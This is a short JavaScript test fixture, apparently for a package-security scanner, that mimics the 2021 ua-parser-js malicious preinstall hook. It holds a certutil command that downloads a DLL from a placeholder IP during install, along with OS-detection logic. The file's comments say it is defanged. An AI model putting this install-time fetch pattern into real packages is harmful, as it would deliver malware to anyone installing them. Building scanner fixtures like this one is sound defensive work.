// DEFANGED TEST FIXTURE for pkgward: ua-parser-js (2021) preinstall shape. .invalid host / RFC 5737 IP; payloads echo only. Never run.
const { exec } = require('child_process');
const os = require('os');
function terminalLinux() {
  exec('/bin/bash preinstall.sh', (error, stdout, stderr) => {});
}
function terminalWin() {
  exec('certutil.exe -urlcache -f http://198.51.100.5/sdd.dll compile.dll && start /B echo pkgward test fixture', (error, stdout, stderr) => {});
}
if (os.type() === 'Linux') terminalLinux();
else if (os.type() === 'Windows_NT') terminalWin();
